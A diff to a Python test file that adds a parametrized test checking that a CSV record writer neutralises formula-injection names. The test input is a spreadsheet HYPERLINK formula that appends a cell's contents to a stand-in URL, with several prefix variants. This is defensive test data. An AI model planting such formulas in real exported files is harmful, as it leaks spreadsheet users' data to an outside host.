@@ -1,3 +1,4 @@
+import csv
 import io
 import os
 from dataclasses import replace
@@ -72,6 +73,18 @@ def test_quotes_in_the_name_of_a_machine_do_not_join_lines() -> None:
     machine = replace(STORED[0].origin.machine, system=',"0')
     quoted = [replace(STORED[0], origin=Origin(machine, "one"))]
     assert read(io.StringIO(written(quoted), newline=""), "file") == quoted
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "＝"])
+def test_a_name_that_is_a_formula_is_none_in_a_spreadsheet(sign: str) -> None:
+    name = f'{sign}HYPERLINK("http://a.b?"&A1),{sign}1;{sign}2'
+    machine = replace(LINUX, processor=name, system=name)
+    timings = [TimingRecord(0, DATE, STORED[0].timing, Origin(machine, name))]
+    text = written(timings)
+    for separator in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
+            assert not any(cell.lstrip().startswith(tuple("=+-@＝")) for cell in row)
+    assert read(io.StringIO(text, newline=""), "file") == timings
 
 
 @given(st.lists(record(), max_size=5))
